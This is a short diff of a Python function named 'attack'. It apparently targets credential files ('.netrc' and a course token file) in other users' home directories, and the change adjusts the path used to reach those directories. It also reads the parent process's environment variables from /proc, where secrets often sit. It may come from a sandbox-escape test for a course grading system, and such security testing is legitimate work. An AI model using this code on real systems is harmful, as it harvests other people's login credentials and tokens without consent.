@@ -4,7 +4,7 @@ HIDDEN = (".netrc", ".config/course/token")
 
 
 def attack(controller):
-    homes = [os.path.abspath("../../../home")]
+    homes = [os.path.abspath("@course@/../home")]
     try:
         with open("/proc/%d/environ" % os.getppid()) as file:
             words = dict(word.split("=", 1) for word in file.read().split("\0") if "=" in word)
